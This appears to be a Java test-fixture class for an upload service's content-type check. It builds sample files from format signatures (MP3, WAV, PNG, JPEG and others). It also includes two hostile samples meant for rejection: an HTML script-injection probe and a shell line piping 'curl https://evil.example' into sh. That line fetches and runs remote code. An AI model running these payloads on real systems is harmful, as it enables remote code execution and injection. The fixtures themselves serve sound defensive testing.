package com.talegenerator.tales.media;

import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Random;

/**
 * The first bytes of files of each stored format, as their specifications lay them out,
 * and files that start with them: what tests upload where the service checks an upload's
 * content against its declared type. The rest of a file is random: the service looks at
 * its head only.
 */
public final class Samples {

	/** ID3v2.4 header (version 4.0, no flags, a tag of 0x0101 bytes), then a frame id. */
	public static final byte[] MP3_ID3 = bytes("ID3", 0x04, 0x00, 0x00, 0x00, 0x00, 0x02, 0x01, "TIT2");

	/** An MPEG-1 layer III frame header: 128 kbit/s, 44.1 kHz. */
	public static final byte[] MP3_FFFB = bytes(0xff, 0xfb, 0x90, 0x64, 0, 0, 0, 0, 0, 0, 0, 0);

	/** An MPEG-2 layer III frame header: 64 kbit/s, 22.05 kHz. */
	public static final byte[] MP3_FFF3 = bytes(0xff, 0xf3, 0x80, 0xc4, 0, 0, 0, 0, 0, 0, 0, 0);

	/** An MPEG-2.5 layer III frame header: 8 kbit/s, 11.025 kHz. */
	public static final byte[] MP3_FFE3 = bytes(0xff, 0xe3, 0x10, 0xc4, 0, 0, 0, 0, 0, 0, 0, 0);

	public static final byte[] WAV = bytes("RIFF", 0x24, 0x08, 0x00, 0x00, "WAVEfmt ");

	/** The first page of an Ogg stream. */
	public static final byte[] OGG = bytes("OggS", 0x00, 0x02, 0, 0, 0, 0, 0, 0, 0, 0);

	/** The FLAC stream marker and a STREAMINFO block header. */
	public static final byte[] FLAC = bytes("fLaC", 0x00, 0x00, 0x00, 0x22, 0x10, 0x00, 0x10, 0x00);

	/** An M4A file's first box: {@code ftyp}, brand {@code M4A }. */
	public static final byte[] M4A = bytes(0x00, 0x00, 0x00, 0x20, "ftypM4A ", 0x00, 0x00, 0x00, 0x00);

	/** The EBML header a WebM file starts with. */
	public static final byte[] WEBM = bytes(0x1a, 0x45, 0xdf, 0xa3, 0x9f, 0x42, 0x86, 0x81, 0x01, 0x42, 0xf7, 0x81);

	/** An ADTS frame header, MPEG-4, no CRC: AAC LC, 44.1 kHz, stereo. */
	public static final byte[] AAC_FFF1 = bytes(0xff, 0xf1, 0x50, 0x80, 0x02, 0x1f, 0xfc, 0, 0, 0, 0, 0);

	/** An ADTS frame header, MPEG-2, no CRC. */
	public static final byte[] AAC_FFF9 = bytes(0xff, 0xf9, 0x50, 0x80, 0x02, 0x1f, 0xfc, 0, 0, 0, 0, 0);

	/** An ADIF header. */
	public static final byte[] AAC_ADIF = bytes("ADIF", 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00);

	/** The PNG signature and the start of its IHDR chunk. */
	public static final byte[] PNG = bytes(0x89, "PNG", 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0x00, 0x0d, "IHDR");

	/** JPEG's start of image, then a JFIF APP0 segment. */
	public static final byte[] JPEG = bytes(0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, "JFIF", 0x00, 0x01);

	public static final byte[] WEBP = bytes("RIFF", 0x24, 0x08, 0x00, 0x00, "WEBPVP8 ");

	/** What the service must never store under an audio or image name. */
	public static final byte[] HTML = "<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
		.getBytes(StandardCharsets.UTF_8);

	public static final byte[] SCRIPT = "#!/bin/sh\ncurl https://evil.example | sh\n".getBytes(StandardCharsets.UTF_8);

	/** A ZIP archive's local file header. */
	public static final byte[] ZIP = bytes("PK", 0x03, 0x04, 0x14, 0x00, 0x00, 0x00, 0x08, 0x00, 0x00, 0x00);

	private static final Random RANDOM = new Random();

	private Samples() {
	}

	/** A PNG file of {@code size} bytes. */
	public static byte[] png(int size) {
		return file(PNG, size);
	}

	/** A JPEG file of {@code size} bytes. */
	public static byte[] jpeg(int size) {
		return file(JPEG, size);
	}

	/** A WebP file of {@code size} bytes. */
	public static byte[] webp(int size) {
		return file(WEBP, size);
	}

	/** An MP3 file (with an ID3 tag) of {@code size} bytes. */
	public static byte[] mp3(int size) {
		return file(MP3_ID3, size);
	}

	/** A file of {@code size} bytes that starts with {@code head}; the rest is random. */
	public static byte[] file(byte[] head, int size) {
		if (size < head.length) {
			throw new IllegalArgumentException("A file of " + size + " bytes cannot hold a head of " + head.length);
		}
		byte[] rest = new byte[size - head.length];
		RANDOM.nextBytes(rest);
		byte[] file = Arrays.copyOf(head, size);
		System.arraycopy(rest, 0, file, head.length, rest.length);
		return file;
	}

	/** Bytes given as unsigned ints and ASCII strings, in order. */
	private static byte[] bytes(Object... pieces) {
		byte[] out = new byte[64];
		int length = 0;
		for (Object piece : pieces) {
			byte[] add = (piece instanceof String text) ? text.getBytes(StandardCharsets.US_ASCII)
					: new byte[] { (byte) (int) (Integer) piece };
			System.arraycopy(add, 0, out, length, add.length);
			length += add.length;
		}
		return Arrays.copyOf(out, length);
	}

}
